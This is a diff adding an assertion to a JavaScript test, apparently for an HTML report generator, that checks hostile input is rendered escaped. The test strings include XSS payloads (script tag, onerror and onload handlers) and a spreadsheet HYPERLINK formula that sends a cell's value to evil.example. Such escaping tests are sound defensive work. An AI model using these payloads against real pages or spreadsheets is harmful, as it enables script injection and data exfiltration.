@@ -73,6 +73,10 @@ describe('hostile input → HTML report', () => {
     expect(html).toContain('&lt;script&gt;window.__pwned=1&lt;/script&gt;');
     expect(html).toContain('&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;');
     expect(html).toContain('invoicefdp.exe');
+    // A round's focus point change: its reason, in "How the room converged".
+    expect(html.slice(html.indexOf('id="converged"'))).toContain(
+      '&lt;script&gt;window.__pwned=1&lt;/script&gt; =HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;open&quot;)',
+    );
     // A custom GPU's name in a stored scenario is rendered, escaped.
     expect(html).toContain('&#39;&gt;&lt;svg onload=window.__pwned=1&gt;');
   });
